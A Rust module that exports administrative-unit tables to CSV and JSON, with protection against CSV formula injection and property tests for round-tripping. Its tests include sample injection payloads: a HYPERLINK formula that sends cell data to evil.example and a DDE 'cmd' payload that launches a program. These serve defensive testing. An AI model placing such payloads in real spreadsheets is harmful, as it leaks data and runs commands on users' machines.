//! Tables written out: CSV that Excel opens with its diacritics intact (UTF-8 with a BOM),
//! and JSON; both read back by [`super::import`] into the same table.
//!
//! A text cell that a spreadsheet would run as a formula (`=HYPERLINK(…)`, `+cmd|…`,
//! `@SUM(…)`, `-2+3`) is written with a leading `'`, which Excel and LibreOffice read as
//! "this is text" and do not show; importing the file takes that one `'` away again.

use super::csv::write_row;
use super::unit::{Figures, Unit};
use crate::core::rules::rule_set::RuleSet;
use crate::core::stored::record::{self, DecodeError, TableRecord};
use crate::core::stored::{fragment, rule_set_file};
use serde::{Deserialize, Serialize};

/// The header row; each title is one the importer recognises.
pub const CSV_HEADER: [&str; 10] = [
    "Tên đơn vị",
    "Nhóm",
    "Loại",
    "Hạng đăng ký / chỉ tiêu",
    "Tổng số hồ sơ",
    "Trực tuyến",
    "Toàn trình",
    "Tỷ lệ (%)",
    "Ghi chú",
    "Nhóm xã",
];

/// Whether a spreadsheet would take `text` for a formula: it starts with `=`, `+`, `-`,
/// `@`, a tab or a carriage return (OWASP's list for CSV injection).
fn reads_as_formula(text: &str) -> bool {
    text.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// Whether [`text_cell`] adds a `'`: the text, after any `'` it already starts with, would
/// be read as a formula. (Counting the `'`s it has makes the way back exact: a name that
/// itself starts with `'=` gets one more.)
fn needs_mark(text: &str) -> bool {
    reads_as_formula(text.trim_start_matches('\''))
}

/// A text cell as written to CSV: with a leading `'` when a spreadsheet would otherwise
/// run it. Cells the app writes as numbers (counts, rates, the commune group) never need it.
pub fn text_cell(text: &str) -> String {
    if needs_mark(text) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

/// A cell as read back from CSV: the one `'` that [`text_cell`] added is taken away.
pub fn read_text_cell(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_mark(rest) => rest,
        _ => cell,
    }
}

fn rate_cell(unit: &Unit) -> String {
    match &unit.figures {
        Figures::Rate { rate } => rate.to_vi_number(),
        Figures::Counts { counts } if counts.total().get() > 0 => {
            let hundredths =
                u128::from(counts.online().get()) * 10_000 / u128::from(counts.total().get());
            format!("{},{:02}", hundredths / 100, hundredths % 100)
        }
        _ => String::new(),
    }
}

pub fn to_csv(units: &[Unit]) -> String {
    let mut out = String::from("\u{feff}");
    let header: Vec<String> = CSV_HEADER.iter().map(|s| (*s).to_owned()).collect();
    out.push_str(&write_row(&header, ','));
    out.push_str("\r\n");
    for unit in units {
        let (total, online, full) = match &unit.figures {
            Figures::Counts { counts } => (
                counts.total().get().to_string(),
                counts.online().get().to_string(),
                counts
                    .full_online()
                    .map(|c| c.get().to_string())
                    .unwrap_or_default(),
            ),
            _ => Default::default(),
        };
        let cells = [
            text_cell(&unit.name),
            text_cell(&unit.group),
            unit.kind.slug().to_owned(),
            text_cell(&unit.target),
            total,
            online,
            full,
            rate_cell(unit),
            text_cell(&unit.note),
            unit.commune_group
                .map(|g| g.to_string())
                .unwrap_or_default(),
        ];
        out.push_str(&write_row(&cells, ','));
        out.push_str("\r\n");
    }
    out
}

pub fn to_json(units: &[Unit]) -> String {
    record::encode(&TableRecord {
        units: units.to_vec(),
    })
}

pub fn from_json(text: &str) -> Result<Vec<Unit>, DecodeError> {
    record::decode_doc::<TableRecord>(text).map(|t| t.units)
}

/// A table handed on (a district's to its communes): its units — groups, commune groups,
/// targets, figures — and the rule set it judges them by. Written as the JSON export with
/// the set beside the units (`{"schema":2,"data":{"units":[…],"rule_set":{…}}}`), so any
/// version that reads the JSON export reads its units.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SharedTable {
    pub units: Vec<Unit>,
    #[serde(default)]
    pub rule_set: Option<RuleSet>,
}

/// The tag of a shared table's link fragment (after the table page's `#/mo/`).
pub const TABLE_LINK_TAG: &str = "t1.";

pub fn to_shared_json(table: &SharedTable) -> String {
    record::encode(table)
}

/// A JSON table, with the rule set it carries if any: the set is checked as a rule-set
/// file's are, and one that is not whole makes the table unreadable (not silently dropped).
pub fn from_shared_json(text: &str) -> Result<SharedTable, DecodeError> {
    let mut table = record::decode_doc::<SharedTable>(text)?;
    if table
        .units
        .iter()
        .any(|u| u.commune_group.is_some_and(|g| !(1..=9).contains(&g)))
    {
        return Err(DecodeError::Invalid);
    }
    table.rule_set = match table.rule_set {
        None => None,
        Some(set) => Some(rule_set_file::checked(set).ok_or(DecodeError::Invalid)?),
    };
    Ok(table)
}

/// The fragment of a link carrying `table`, or `None` when it is longer than
/// [`fragment::MAX_FRAGMENT`] characters (the table then travels as its JSON file).
pub fn table_link(table: &SharedTable) -> Option<String> {
    let packed = fragment::pack(TABLE_LINK_TAG, &to_shared_json(table));
    (packed.len() <= fragment::MAX_FRAGMENT).then_some(packed)
}

/// The text a shared table's link carries (read then as a pasted JSON table).
pub fn table_link_text(link: &str) -> Result<String, fragment::FragmentError> {
    fragment::unpack(link, TABLE_LINK_TAG, super::import::MAX_CHARS)
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use crate::core::num::count::Count;
    use crate::core::num::counts::Counts;
    use crate::core::num::percent::Percent;
    use crate::core::table::import::parse_table;
    use crate::core::table::unit::UnitKind;
    use crate::core::text::clean_name;
    use proptest::prelude::*;

    fn figures() -> impl Strategy<Value = Figures> {
        prop_oneof![
            Just(Figures::Missing),
            (0u32..=10_000).prop_map(|h| Figures::Rate {
                rate: Percent::from_hundredths(h).unwrap()
            }),
            (0..=Count::MAX, 0.0f64..=1.0, 0.0f64..=1.0, any::<bool>()).prop_map(
                |(t, a, b, has_full)| {
                    let o = (((t as f64) * a) as u64).min(t);
                    let f = (((o as f64) * b) as u64).min(o);
                    let c = |n| Count::new(n).unwrap();
                    Figures::Counts {
                        counts: Counts::new(c(t), c(o), has_full.then(|| c(f))).unwrap(),
                    }
                }
            ),
        ]
    }

    fn text() -> impl Strategy<Value = String> {
        // Trimmed, as every imported or edited cell is.
        "[\\PC&&[^\\t]]{0,20}".prop_map(|s| s.trim().to_owned())
    }

    /// Names as the import leaves them (one line, no direction controls, trimmed), among
    /// them ones a spreadsheet would run and ones that already start with `'`.
    fn name() -> impl Strategy<Value = String> {
        (
            "|'|''|[=+\\-@]|'[=+\\-@]|''[=+@]",
            "[A-Za-zÀ-ỹ(\"][\\PC&&[^\\t]]{0,20}",
        )
            .prop_map(|(mark, rest)| clean_name(&format!("{mark}{rest}")).trim().to_owned())
    }

    pub(crate) fn unit() -> impl Strategy<Value = Unit> {
        (
            (
                name(),
                text().prop_map(|g| clean_name(&g).trim().to_owned()),
                prop::sample::select(UnitKind::ALL.to_vec()),
                prop::sample::select(vec!["", "ntm", "nang-cao", "kieu-mau", "xa-25"]),
                figures(),
                text(),
            ),
            prop::option::of(1u8..=3),
        )
            .prop_map(
                |((name, group, kind, target, figures, note), commune_group)| Unit {
                    name,
                    group,
                    kind,
                    target: target.to_owned(),
                    figures,
                    note,
                    commune_group,
                },
            )
    }

    fn unit_named(name: &str) -> Unit {
        Unit {
            note: name.into(),
            group: name.into(),
            ..Unit::named(name)
        }
    }

    #[test]
    fn cells_a_spreadsheet_would_run_get_a_quote_mark_and_lose_it_on_import() {
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "+cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "-2+3",
            "'=1+1",
        ];
        let units: Vec<Unit> = hostile.iter().map(|n| unit_named(n)).collect();
        let csv = to_csv(&units);
        let rows = crate::core::table::csv::parse(&csv, ',');
        for (row, name) in rows[1..].iter().zip(hostile) {
            assert_eq!(row[0], format!("'{name}"));
            assert_eq!(row[1], format!("'{name}"));
            assert_eq!(row[8], format!("'{name}"));
        }
        assert_eq!(parse_table(&csv).units, units);
        // Counts and rates are the app's numbers, written as they are.
        let counted = Unit {
            figures: Figures::Counts {
                counts: Counts::new(Count::new(10).unwrap(), Count::new(4).unwrap(), None).unwrap(),
            },
            ..Unit::named("Xã A")
        };
        let line = to_csv(&[counted])
            .lines()
            .nth(1)
            .unwrap_or_default()
            .to_owned();
        assert_eq!(line, "Xã A,,xa,,10,4,,\"40,00\",,");
        assert_eq!(read_text_cell("'abc"), "'abc");
        assert_eq!(read_text_cell("''=x"), "'=x");
        assert_eq!(text_cell("'abc"), "'abc");
    }

    proptest! {
        #[test]
        fn csv_export_then_import_gives_the_same_table(units in prop::collection::vec(unit(), 0..12)) {
            let csv = to_csv(&units);
            let bom = '\u{feff}';
            prop_assert!(csv.starts_with(bom));
            let back = parse_table(&csv);
            prop_assert_eq!(back.errors, vec![]);
            prop_assert_eq!(back.units, units);
        }

        #[test]
        fn no_exported_text_cell_reads_as_a_formula(units in prop::collection::vec(unit(), 1..8)) {
            let csv = to_csv(&units);
            for row in crate::core::table::csv::parse(&csv, ',').iter().skip(1) {
                for (i, cell) in row.iter().enumerate() {
                    prop_assert!(!reads_as_formula(cell), "column {} {:?}", i, cell);
                }
            }
        }

        #[test]
        fn json_export_then_import_gives_the_same_table(units in prop::collection::vec(unit(), 0..12)) {
            prop_assert_eq!(from_json(&to_json(&units)), Ok(units));
        }

        #[test]
        fn a_shared_table_comes_back_with_its_rule_set(
            units in prop::collection::vec(unit(), 0..12),
            rule_set in proptest::option::of(crate::core::testing::any_rule_set()),
        ) {
            let table = SharedTable { units: units.clone(), rule_set };
            let json = to_shared_json(&table);
            prop_assert_eq!(from_shared_json(&json), Ok(table.clone()));
            // The units read as a plain JSON export, by this version and the previous one.
            prop_assert_eq!(from_json(&json), Ok(units));
            let link = table_link(&table).expect("a dozen units fit a link");
            let text = table_link_text(&format!("#{link}")).unwrap();
            prop_assert_eq!(from_shared_json(&text), Ok(table));
        }
    }

    #[test]
    fn a_shared_table_with_a_broken_rule_set_is_refused() {
        let table = SharedTable {
            units: vec![Unit::named("Xã A")],
            rule_set: Some(crate::core::rules::presets::commune_2022_2025()),
        };
        let json = to_shared_json(&table);
        assert!(
            json.contains(r#""rule_set":{"id":"khanh-hoa-xa-2022-2025""#),
            "{json}"
        );
        let broken = json.replace(
            r#""tier":"nang-cao","group""#,
            r#""tier":"hang-la","group""#,
        );
        assert_eq!(from_shared_json(&broken), Err(DecodeError::Invalid));
        let bad_group = to_shared_json(&SharedTable {
            units: vec![Unit {
                commune_group: Some(12),
                ..Unit::named("Xã B")
            }],
            rule_set: None,
        });
        assert_eq!(from_shared_json(&bad_group), Err(DecodeError::Invalid));
        // A thousand units with figures do not fit a link: the file carries them.
        let mut seed = 11u64;
        let mut next = move || {
            seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
            seed >> 33
        };
        let many = SharedTable {
            units: (0..1_000)
                .map(|i| {
                    let total = next() % 100_000;
                    let online = total * (next() % 100) / 100;
                    let counts = Counts::new(
                        Count::new(total).unwrap(),
                        Count::new(online).unwrap(),
                        None,
                    )
                    .unwrap();
                    Unit {
                        figures: Figures::Counts { counts },
                        ..Unit::named(&format!("Xã {i}"))
                    }
                })
                .collect(),
            rule_set: None,
        };
        assert_eq!(table_link(&many), None);
    }
}
